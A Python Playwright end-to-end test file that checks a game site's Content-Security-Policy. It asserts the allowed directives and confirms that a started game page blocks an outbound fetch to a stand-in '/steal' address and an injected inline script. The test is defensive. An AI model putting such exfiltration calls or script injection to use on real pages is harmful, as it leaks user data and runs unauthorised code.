"""Every page is locked to its own site by a Content-Security-Policy: a game that has
started can reach no other host and runs no script that was not a file of the site.

Whole games of every board run under the same policy in the other e2e tests, whose
teardown fails on any console error, so a violation anywhere shows there.
"""

from __future__ import annotations

from playwright.sync_api import Page

from e2e.conftest import BrowserLog, WaitReady

VIOLATIONS = """() => {
  window.__violations = [];
  document.addEventListener("securitypolicyviolation",
    (event) => window.__violations.push(event.effectiveDirective));
}"""


def policy(page: Page) -> dict[str, list[str]]:
    """The page's policy, directive by directive."""
    text = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
    assert text is not None
    return {name: values for name, *values in (part.split() for part in text.split(";"))}


def test_every_page_allows_only_its_own_site(page: Page, wait_ready: WaitReady) -> None:
    page.goto("index.html")
    gallery = policy(page)
    assert gallery["default-src"] == ["'self'"] and gallery["script-src"] == ["'self'"]
    page.goto("offboard.html")
    wait_ready(page)
    game = policy(page)
    assert game["default-src"] == ["'self'"] and game["object-src"] == ["'none'"]
    assert set(game["script-src"]) == {"'self'", "'wasm-unsafe-eval'", "'unsafe-eval'"}


def test_a_started_game_can_reach_no_other_host_nor_run_injected_script(
    page: Page, wait_ready: WaitReady, browser_log: BrowserLog
) -> None:
    page.goto("offboard.html")
    wait_ready(page)
    page.evaluate(VIOLATIONS)
    refused = page.evaluate(
        """() => fetch("http://127.0.0.2:9/steal").then(() => "sent", (error) => error.name)"""
    )
    assert refused == "TypeError"
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.__injected = true";
          document.body.append(script);
        }"""
    )
    page.wait_for_function("() => window.__violations.length >= 2")
    assert page.evaluate("() => window.__violations") == ["connect-src", "script-src-elem"]
    assert page.evaluate("() => window.__injected") is None
    assert not [url for url in browser_log.requests if "127.0.0.2" in url]
    assert page.evaluate("() => window.pygames.state().game") == "offboard"
    # the two refusals are what this test provoked; anything else still fails it
    expected = ("Content Security Policy",)
    browser_log.problems[:] = [p for p in browser_log.problems if not any(e in p for e in expected)]
